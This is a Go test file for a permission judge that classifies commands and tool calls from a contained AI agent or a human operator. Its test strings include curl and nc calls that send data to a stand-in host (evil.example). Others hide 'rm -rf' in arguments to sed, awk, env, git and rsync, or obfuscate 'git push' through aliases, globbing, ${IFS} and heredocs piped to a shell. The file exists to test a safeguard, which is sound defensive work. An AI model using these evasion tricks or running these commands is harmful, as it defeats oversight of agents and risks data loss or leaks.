package judge_test

import (
	"strings"
	"testing"

	"swarmdeck/engine/core"
	"swarmdeck/engine/judge"
	"swarmdeck/expect"
)

// reasons tells which rule decides about a command of an agent behind its wall, and of an
// operator.
func (f *fixture) reasons(args string) (agent, operator string) {
	ask := execBy(robot, args)
	ask.Contained = judge.Contained("")
	return f.Evaluate(f.t.Context(), acme, ask).ReasonCode, f.Evaluate(f.t.Context(), acme, execBy(alice, args)).ReasonCode
}

func TestAContainedAgentIsNotAskedAboutWhatOnlyLooks(t *testing.T) {
	f := setup(t)
	for _, text := range []string{
		"curl -X POST -d '{}' http://localhost:8000/api", "curl -X GET http://localhost/", "curl -sX POST -H 'A: b' 127.0.0.2:80/x -o out",
		"curl --json @body 'http://[::1]:8000'", "nc -z localhost 5432", "nc -zv -w 1 127.0.0.1 80", "telnet localhost 25",
		"command -v docker", "command -V gh && true", "gh --version", "gh pr view 7", "gh help", "terraform fmt -recursive", "helm lint chart",
		"ansible --version", "docker --version", "docker ps -a", "kubectl version", "aws --help",
		"cat <<EOF > notes.md\nfirst\ngit push origin main\nEOF", "cat <<EOF | tee notes | grep x\ngit push\nEOF",
		"git add . && git commit -m \"$(cat <<'EOF'\nIt says:\ngit push\nEOF\n)\"", "git commit -F - <<EOF\ngit push\nEOF", "cat <<<'git push'",
		"mkdir x && { cat <<EOF >x/y; }\ngh pr create\nEOF",
	} {
		agent, _ := f.reasons(sh(text))
		expect.Is(t, agent, "contained", text)
	}
}

func TestAContainedAgentIsAskedAboutWhatPublishes(t *testing.T) {
	f := setup(t)
	for _, text := range []string{
		"curl -d x http://localhost@evil.example/", "curl -d x http://localhost.evil.example", "curl -d x http://localhost http://evil.example", "curl -d x evil.example",
		"curl -x evil.example:80 -d x http://localhost", "curl -xevil.example:80 -d x http://localhost", "curl --connect-to ::evil.example: -d x http://localhost",
		"curl -Kfile -d x http://localhost", "curl -XPOST http://evil.example http://localhost", "curl -d x http://$HOST/", "curl -d x", "curl -d x --url http://evil.example http://localhost",
		"nc evil.example 80", "nc -x evil.example:1 localhost 80", "nc 134744072 80", "nc localhost 134744072", "ssh localhost",
		"command docker push x", "command -p docker push x", "gh pr create", "gh pr", "gh --version pr create", "terraform apply", "docker -H tcp://x ps", "ansible version -a x",
		"sh <<EOF\ngit push\nEOF", "python3 - <<EOF\ngit push\nEOF", "cat <<EOF | sh\ngit push\nEOF", "cat <<EOF | tee x | bash -s\ngit push\nEOF",
		"cat <<EOF\n$(git push)\nEOF", "while read x; do $x; done <<EOF\ngit push\nEOF", "{ cat; sh; } <<EOF\ngit push\nEOF", "cat <<EOF | { cat; sh; }\ngit push\nEOF", "cat <<EOF | while read x; do $x; done\ngit push\nEOF", "cat > >(sh) <<EOF\ngit push\nEOF",
		"eval \"$(cat <<EOF\ngit push\nEOF\n)\"", "x=$(cat <<EOF\ngit push\nEOF\n); $x", "xargs -0 sh -c <<<'git push'", "sudo sh <<EOF\ngit push\nEOF",
		"dotnet nuget push x.nupkg", "make deploy", "make -j4 test publish", "make release", "npm run publish", "npm run deploy:prod", "npm run -s release", "yarn run deploy", "yarn deploy",
		"yarn npm publish", "cargo +nightly publish", "npm pub", "npm unpub x", "git -c alias.x=push x origin main", "git -c ALIAS.x=push x", "git config alias.x push",
		"g=git; $g push", "${g} push origin main", "\"$(which git)\" push", "`which git` push", "/usr/bin/gi? push", "git${IFS}push", "g$'i't push", "parallel git push ::: a",
		"rsync -a . host.example:x",
	} {
		agent, _ := f.reasons(sh(text))
		expect.Is(t, agent, "destructive", text)
	}
}

// What one of its arguments names, a program may run.
func TestAnOperatorIsAskedAboutWhatRunsOrWritesByAnArgument(t *testing.T) {
	f := setup(t)
	for _, words := range [][]string{
		{"env", "-vS", "rm -rf x"},
		{"env", "-iS", "rm -rf x"},
		{"env", "--split=rm -rf x"},
		{"bash", "-O", "extglob", "-c", "rm -rf b"},
		{"bash", "-o", "pipefail", "-c", "rm -rf b"},
		{"bash", "-euo", "pipefail", "-c", "rm -rf b"},
		{"bash", "--rcfile", "x", "-c", "rm -rf b"},
		{"bash", "-c", "/bin/r? -rf b"},
		{"bash", "-c", "/bin/[r]m -rf b"},
		{"bash", "-c", "rm${IFS}-rf${IFS}b"},
		{"parallel", "rm", "-rf", ":::", "b"},
		{"parallel", "-j", "2", "rm -rf {}", ":::", "b"},
		{"parallel", ":::", "rm -rf b"},
		{"watch", "rm -rf b"},
		{"flock", "x", "-c", "rm -rf b"},
		{"sed", "-n", "1e rm -rf b", "x"},
		{"sed", "-e", "/a/,$ e rm -rf b", "x"},
		{"sed", "s/.*/rm -rf b/e", "x"},
		{"sed", "s|x|rm|gep", "x"},
		{"sed", "p;e", "x"},
		{"sed", "-n", "w out", "x"},
		{"sed", "s/a/b/w out", "x"},
		{"sed", "-e1e rm b", "x"},
		{"awk", `BEGIN{system("rm -rf b")}`},
		{"gawk", `{"rm b" | getline x}`},
		{"awk", `{print $1 | "sh"}`},
		{"awk", `{printf("%s", "a|b") |& "sh"}`},
		{"man", "-P", "rm -rf b", "ls"},
		{"less", "+!rm -rf b", "x"},
		{"less", "+G!rm -rf b", "x"},
		{"vim", "+!rm -rf b", "x"},
		{"zip", "a", "b", "-T", "-TT", "rm -rf b"},
		{"zip", "a", "b", "-TTrm"},
		{"zip", "--unzip-command", "rm", "a"},
		{"git", "-c", "core.fsmonitor=sh", "status"},
		{"git", "-c", "Core.SSHCommand=sh", "fetch"},
		{"git", "grep", "-O/bin/sh", "x"},
		{"git", "grep", "--open-files=sh", "x"},
		{"git", "log", "--output=/x"},
		{"git", "fetch", "--upload-pack=sh", "."},
		{"git", "bisect", "run", "sh"},
		{"git", "submodule", "foreach", "rm -rf b"},
		{"rsync", "-e", "sh", "a", "b:c"},
		{"rsync", "-ae", "sh", "a", "b"},
		{"rsync", "--rsh=sh", "a", "b"},
	} {
		agent, operator := f.reasons(string(core.MustEncode(map[string]any{"argv": words})))
		expect.Is(t, operator, "destructive", words)
		expect.True(t, agent == "contained" || words[0] == "rsync", "%q of a contained agent: %s", words, agent)
	}
	for _, words := range [][]string{
		{"sed", "-n", "1,5p", "x.e"},
		{"sed", "-i", "s/one/e/", "x"},
		{"sed", "s|/usr|/e|g", "x"},
		{"sed", "-e", "s/a/b/", "-e", "$d", "env.txt"},
		{"sed", "/we/d", "x"},
		{"awk", "-F|", `{print $1 "|" $2}`},
		{"awk", `/a|b/ {print $1}`},
		{"awk", `$1 == "x" || $2 {print}`},
		{"bash", "-o", "pipefail", "-c", "ls | wc"},
		{"less", "+F", "log"},
		{"zip", "-r", "a", "b", "-T"},
		{"git", "-c", "user.name=x", "commit", "-m", "y"},
		{"git", "archive", "--output=x.tar", "HEAD"},
		{"rsync", "-a", "a", "b"},
		{"watch", "ls"},
		{"env", "A=b", "curl", "-sS", "http://x/?a=(b)"},
		{"make", "test"},
		{"bash", "-c", "[ -f x ] && ls *.go"},
		{"man", "ls"},
	} {
		_, operator := f.reasons(string(core.MustEncode(map[string]any{"argv": words})))
		expect.True(t, strings.HasSuffix(operator, "dispatch"), "%q: %s", words, operator)
	}
}

func TestAToolThatPublishesAsksByWhateverDoor(t *testing.T) {
	f := setup(t)
	for name, want := range map[string]string{
		"create_pull_request": "destructive", "mcp__github__create_pull_request": "destructive", "mcp__slack__post_message": "destructive",
		"mcp__github__get_pull_request": "contained", "mcp__github__list_pull_requests": "contained",
	} {
		for door, ask := range map[string]judge.Ask{
			"its name":       call(name, `{}`),
			"a title":        call("other", `{"title":"`+name+`"}`),
			"a longer title": call("other", `{"title":"Tool: github/`+name+` (MCP)"}`),
			"a run":          call("execute", `{"title":"`+name+`"}`),
		} {
			ask.Contained = judge.Contained("")
			expect.Is(t, f.Evaluate(t.Context(), acme, ask).ReasonCode, want, name, "by", door)
		}
	}
	for _, title := range []string{"Edit the release notes", "src/push_test.go", "go test -run Test_Push ./...", "send.go", "bin/deploy"} {
		ask := call("edit", `{"title":"`+title+`"}`)
		if strings.HasPrefix(title, "go ") {
			ask.Action.Tool = "execute"
		}
		ask.Contained = judge.Contained("")
		expect.Is(t, f.Evaluate(t.Context(), acme, ask).ReasonCode, "contained", title)
	}
}
